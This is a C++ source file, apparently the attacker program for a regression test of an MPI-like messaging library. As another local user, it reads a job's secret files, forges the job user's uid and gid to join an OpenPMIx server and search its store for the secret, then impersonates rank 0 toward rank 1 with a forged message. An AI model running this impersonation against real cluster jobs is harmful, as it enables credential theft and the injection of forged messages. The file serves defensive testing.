// The attacker of tests/faults/impersonation.sh (issue 19, deliverable 2), run as another user
// than the job's while the job runs:
//   impersonator JOB_DIR PMIX_SERVER_URI RANK1_ADDRESS
// JOB_DIR is the job's directory ($TMPDIR/<nspace>: its name is the nspace, its owner the job's
// user; any local user can list it), PMIX_SERVER_URI node 1's PMIx server
// ("pmix-server.<pid>;tcp4://127.0.0.1:<port>": ps and ss show both to anyone) and
// RANK1_ADDRESS rank 1's tcp listener (ss), used when the PMIx store does not give it.
// What it tries, each step printed as "impersonator: <step>: <outcome>":
//   1. read the job secret file (n0/job/secret, n1/job/secret);
//   2. join the job's PMIx server as a client claiming the job user's uid and gid, as the
//      original attack's LD_PRELOAD shim did (OpenPMIx 4's `native` security believes what a
//      TCP client claims): this program defines getuid/geteuid/getgid/getegid itself, so the
//      PMIx library's calls get the job user's ids, and looks the secret up in the store
//      (xmsg.job_secret, where an older xmsgrun put it; xmsg.tcp.secret, where rank 0 puts one
//      under other launchers) and rank 1's address (xmsg.tcp.addr);
//   3. call rank 1 as rank 0 with the best secret it got (else a guess), send the proof and an
//      eager message (tests/faults/impersonation_job.cpp's tag) right behind it, and watch
//      whether rank 1 closes the connection.
// Then it exits, which closes whatever it got. Exits 0 when it did all three, whatever the
// outcomes (the test judges them), 1 when it could not even try.
#include "raw_tcp_client.hpp"

#include "Frame.hpp"

#include <pmix.h>

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <stdexcept>
#include <string>
#include <vector>

namespace {

// The ids the PMIx library reports to the server; the real ones until main() learns the job's.
uid_t g_claimed_uid = static_cast<uid_t>(-1);
gid_t g_claimed_gid = static_cast<gid_t>(-1);

void say(const std::string& step, const std::string& outcome) {
  std::printf("impersonator: %s: %s\n", step.c_str(), outcome.c_str());
  std::fflush(stdout);
}

std::optional<std::string> read_secret_file(const std::string& path) {
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    say("read " + path, std::strerror(errno));
    return std::nullopt;
  }
  char buf[256];
  ssize_t n = ::read(fd, buf, sizeof buf);
  ::close(fd);
  std::string s(buf, n > 0 ? static_cast<size_t>(n) : 0);
  while (!s.empty() && s.back() == '\n') s.pop_back();
  say("read " + path, "READ THE JOB SECRET");
  return s;
}

std::optional<std::string> pmix_string(const pmix_proc_t& proc, const char* key) {
  pmix_value_t* v = nullptr;
  pmix_info_t info;
  bool optional = false;  // ask the server too, as a rank would for a peer's data
  PMIX_INFO_LOAD(&info, PMIX_OPTIONAL, &optional, PMIX_BOOL);
  pmix_status_t rc = PMIx_Get(&proc, key, &info, 1, &v);
  PMIX_INFO_DESTRUCT(&info);
  if (rc != PMIX_SUCCESS || !v) return std::nullopt;
  std::optional<std::string> out;
  if (v->type == PMIX_STRING && v->data.string) out = v->data.string;
  else if (v->type == PMIX_BYTE_OBJECT) out = std::string(v->data.bo.bytes, v->data.bo.size);
  PMIX_VALUE_RELEASE(v);
  return out;
}

// Step 2. Returns the secret when the store gives one; `rank1_address` when it gives that.
std::optional<std::string> search_pmix_store(const std::string& nspace, const std::string& uri, std::string& rank1_address) {
  // What a rank's environment holds; rank 1 claimed as the caller (any rank of the node would
  // do), nothing else of the job is known to this process.
  ::setenv("PMIX_NAMESPACE", nspace.c_str(), 1);
  ::setenv("PMIX_RANK", "1", 1);
  for (const char* var : {"PMIX_SERVER_URI4", "PMIX_SERVER_URI41", "PMIX_SERVER_URI3", "PMIX_SERVER_URI2", "PMIX_SERVER_URI21"})
    ::setenv(var, uri.c_str(), 1);
  ::setenv("PMIX_SECURITY_MODE", "native", 1);
  ::setenv("PMIX_MCA_gds", "hash", 1);
  ::setenv("PMIX_GDS_MODULE", "hash", 1);
  ::setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
  pmix_proc_t self{};
  pmix_status_t rc = PMIx_Init(&self, nullptr, 0);
  if (rc != PMIX_SUCCESS) {
    say("join the PMIx server as uid " + std::to_string(g_claimed_uid), std::string("refused: ") + PMIx_Error_string(rc));
    return std::nullopt;
  }
  say("join the PMIx server as uid " + std::to_string(g_claimed_uid), "JOINED as " + std::string(self.nspace) + " rank " + std::to_string(self.rank));
  pmix_proc_t job, rank0, rank1;
  PMIX_LOAD_PROCID(&job, self.nspace, PMIX_RANK_WILDCARD);
  PMIX_LOAD_PROCID(&rank0, self.nspace, 0);
  PMIX_LOAD_PROCID(&rank1, self.nspace, 1);
  std::optional<std::string> secret;
  for (auto [proc, key] : {std::pair{&job, "xmsg.job_secret"}, std::pair{&rank0, "xmsg.tcp.secret"}}) {
    auto v = pmix_string(*proc, key);
    say(std::string("look up ") + key, v ? "FOUND THE JOB SECRET" : "absent");
    if (v && !secret) secret = v;
  }
  if (auto a = pmix_string(rank1, "xmsg.tcp.addr")) {
    rank1_address = *a;
    say("look up xmsg.tcp.addr of rank 1", *a);
  } else {
    say("look up xmsg.tcp.addr of rank 1", "absent");
  }
  // No PMIx_Finalize: the server would count it as rank 1's.
  return secret;
}

// Step 2 in a child process, given `limit_s` to answer. A server that refuses a client after
// OpenPMIx's handshake answer (as xmsgrun's does) closes the connection; the client library
// then fails PMIx_Init, or now and then waits forever for the answer to its first request.
std::optional<std::string> search_pmix_store_within(const std::string& nspace, const std::string& uri,
                                                    std::string& rank1_address, int limit_s) {
  int fds[2];
  if (::pipe(fds) != 0) throw std::runtime_error("pipe failed");
  std::fflush(stdout);
  const pid_t child = ::fork();
  if (child < 0) throw std::runtime_error("fork failed");
  if (child == 0) {
    ::close(fds[0]);
    std::string address = rank1_address;
    auto secret = search_pmix_store(nspace, uri, address);
    const std::string out = (secret ? "+" + *secret : "-") + "\n" + address + "\n";
    [[maybe_unused]] ssize_t n = ::write(fds[1], out.data(), out.size());
    std::fflush(stdout);
    ::_exit(0);  // leaves the PMIx connection, if it got one
  }
  ::close(fds[1]);
  std::string got;
  pollfd p{fds[0], POLLIN, 0};
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(limit_s);
  for (;;) {
    const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(deadline - std::chrono::steady_clock::now());
    if (left.count() <= 0 || ::poll(&p, 1, static_cast<int>(left.count())) <= 0) break;
    char buf[512];
    const ssize_t n = ::read(fds[0], buf, sizeof buf);
    if (n <= 0) break;
    got.append(buf, static_cast<size_t>(n));
  }
  ::close(fds[0]);
  ::kill(child, SIGKILL);
  ::waitpid(child, nullptr, 0);
  const size_t nl = got.find('\n');
  if (nl == std::string::npos || got.back() != '\n') {
    say("join the PMIx server as uid " + std::to_string(g_claimed_uid),
        "refused: no answer within " + std::to_string(limit_s) + " s");
    return std::nullopt;
  }
  rank1_address = got.substr(nl + 1, got.size() - nl - 2);
  if (got[0] == '+') return got.substr(1, nl - 1);
  return std::nullopt;
}

// Step 3.
void call_as_rank0(const std::string& address, const std::string& secret) {
  using namespace xmsg;
  int fd = test::connect_to(address);
  bool welcome_proven = false;
  auto proof = test::raw_hello(fd, 0, 1, secret, welcome_proven);
  say("call rank 1 at " + address + " as rank 0", welcome_proven ? "welcome proven with our secret" : "welcome (not provable with our secret)");
  // The proof and, right behind it, the forged message: what an impostor would send.
  const std::string forged = "impersonation test: from an impostor claiming rank 0";
  const transport::tcp::FrameHeader fh{transport::tcp::FrameType::kData, static_cast<uint32_t>(forged.size()),
                                       transport::WireHeader{0, 0, 1, transport::MessageKind::kEager, 0, 0, forged.size()}};
  auto wire = proof.encode();
  // Sized once and filled with memcpy: GCC 12 under -fsanitize=thread misreads vector::insert
  // from a struct's bytes as out of bounds (-Warray-bounds).
  std::vector<char> bytes(wire.size() + sizeof fh + forged.size());
  std::memcpy(bytes.data(), wire.data(), wire.size());
  std::memcpy(bytes.data() + wire.size(), &fh, sizeof fh);
  std::memcpy(bytes.data() + wire.size() + sizeof fh, forged.data(), forged.size());
  try {
    test::send_all(fd, bytes.data(), bytes.size());
    say("send the proof and a message as rank 0", "sent");
  } catch (const std::exception& e) {
    say("send the proof and a message as rank 0", e.what());
  }
  say("rank 1's answer", test::closed_by_peer(fd, 20) ? "closed the connection" : "CONNECTION STILL OPEN after 20 s");
  ::close(fd);
}

}  // namespace

// The shim: the PMIx library asks these who it runs as, and tells the server.
extern "C" uid_t getuid() { return g_claimed_uid != static_cast<uid_t>(-1) ? g_claimed_uid : static_cast<uid_t>(::syscall(SYS_getuid)); }
extern "C" uid_t geteuid() { return g_claimed_uid != static_cast<uid_t>(-1) ? g_claimed_uid : static_cast<uid_t>(::syscall(SYS_geteuid)); }
extern "C" gid_t getgid() { return g_claimed_gid != static_cast<gid_t>(-1) ? g_claimed_gid : static_cast<gid_t>(::syscall(SYS_getgid)); }
extern "C" gid_t getegid() { return g_claimed_gid != static_cast<gid_t>(-1) ? g_claimed_gid : static_cast<gid_t>(::syscall(SYS_getegid)); }

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: impersonator JOB_DIR PMIX_SERVER_URI RANK1_ADDRESS\n");
    return 2;
  }
  const std::string job_dir = argv[1], uri = argv[2];
  std::string rank1_address = argv[3];
  try {
    say("running as", "uid " + std::to_string(::syscall(SYS_getuid)) + " gid " + std::to_string(::syscall(SYS_getgid)));
    struct stat st {};
    if (::stat(job_dir.c_str(), &st) != 0) {
      say("stat " + job_dir, std::strerror(errno));
      return 1;
    }
    const std::string nspace = job_dir.substr(job_dir.rfind('/') + 1);
    std::optional<std::string> secret;
    for (const char* node : {"n0", "n1"})
      if (auto s = read_secret_file(job_dir + "/" + node + "/job/secret"); s && !secret) secret = s;
    g_claimed_uid = st.st_uid;
    g_claimed_gid = st.st_gid;
    if (auto s = search_pmix_store_within(nspace, uri, rank1_address, 5); s && !secret) secret = s;
    if (!secret) {
      secret = std::string(32, '0');
      say("secret", "none found: guessing " + *secret);
    }
    call_as_rank0(rank1_address, *secret);
    // Exiting closes a PMIx connection it may have got: a client accepted as rank 1 that goes
    // is taken by OpenPMIx for rank 1 lost, and the job's next fence would never complete.
    say("done", "leaving");
  } catch (const std::exception& e) {
    say("gave up", e.what());
    return 1;
  }
  return 0;
}
